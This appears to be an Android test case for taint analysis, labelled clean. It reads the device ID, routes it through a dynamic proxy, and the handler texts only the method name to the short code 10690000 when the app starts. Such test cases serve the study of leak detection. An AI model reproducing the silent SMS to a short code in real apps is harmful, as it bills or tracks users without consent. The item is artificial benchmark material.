// about       A proxy's handler sends the name of the method that it stands in for.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Class<?>[] types = {Counter.class};
    Object made = Proxy.newProxyInstance(getClassLoader(), types, new Recorder());
    ((Counter) made).seen(phone.getDeviceId());
  }
}

interface Counter {
  void seen(String device);
}

class Recorder implements InvocationHandler {
  @Override
  public Object invoke(Object proxy, Method method, Object[] arguments) {
    // All calls of the interface end here.
    String text = method.getDeclaringClass() == Counter.class ? method.getName() : "";
    SmsManager.getDefault().sendTextMessage("10690000", null, "seen " + text, null, null);
    return null;
  }
}
